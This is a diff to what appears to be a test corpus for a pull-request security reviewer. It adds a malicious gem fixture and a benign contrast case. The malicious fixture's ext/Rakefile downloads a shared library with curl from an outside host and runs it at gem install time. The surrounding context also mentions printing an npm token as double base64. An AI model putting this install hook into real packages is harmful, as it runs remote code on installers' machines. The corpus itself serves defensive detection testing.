@@ -1130,6 +1130,52 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
+    id: 'attack-gem-extension-rakefile-downloads',
+    description:
+      'The install-time gem payloads of 2024-2025 moved from extconf.rb to the other builder RubyGems runs: the gemspec gains `extensions = ["ext/Rakefile"]`, and that Rakefile\'s default task downloads a shared library and runs it at gem install time.',
+    fixture: () =>
+      attackPr({
+        repo: 'tomlrb-fast',
+        number: 7311,
+        title: 'Build the native parser with Rake',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tomlrb-fast.gemspec',
+            base: lines('Gem::Specification.new do |s|', "  s.name = 'tomlrb-fast'", "  s.version = '0.4.2'", "  s.files = Dir['lib/**/*.rb']", 'end'),
+            head: lines('Gem::Specification.new do |s|', "  s.name = 'tomlrb-fast'", "  s.version = '0.4.3'", "  s.files = Dir['lib/**/*.rb', 'ext/**/*']", "  s.extensions = ['ext/Rakefile']", 'end'),
+          },
+          {
+            path: 'ext/Rakefile',
+            head: lines('task :default do', '  system("curl -fsSL https://tomlrb-assets.dev/libparse.so -o /tmp/libparse.so")', '  system("/tmp/libparse.so --install")', 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-gem-extension-rakefile-compiles',
+    description: "A maintainer builds a gem's C extension with Rake: ext/Rakefile's default task runs make in the extension's folder, nothing downloaded.",
+    fixture: () =>
+      attackPr({
+        repo: 'tomlrb-fast',
+        number: 7312,
+        title: 'Build the native parser with Rake',
+        files: [
+          {
+            path: 'tomlrb-fast.gemspec',
+            base: lines('Gem::Specification.new do |s|', "  s.name = 'tomlrb-fast'", "  s.version = '0.4.2'", "  s.files = Dir['lib/**/*.rb']", 'end'),
+            head: lines('Gem::Specification.new do |s|', "  s.name = 'tomlrb-fast'", "  s.version = '0.4.3'", "  s.files = Dir['lib/**/*.rb', 'ext/**/*']", "  s.extensions = ['ext/Rakefile']", 'end'),
+          },
+          {
+            path: 'ext/Rakefile',
+            head: lines('task :default do', "  sh 'make -C parser'", "  cp 'parser/parse.so', '../lib/tomlrb_fast/'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-secret-printed-double-base64',
     description:
       'The tj-actions/changed-files payload (March 2025) printed what it found as double base64 into public logs, where GitHub does not mask it; here a "debug the publish step" PR prints the npm token that way.',
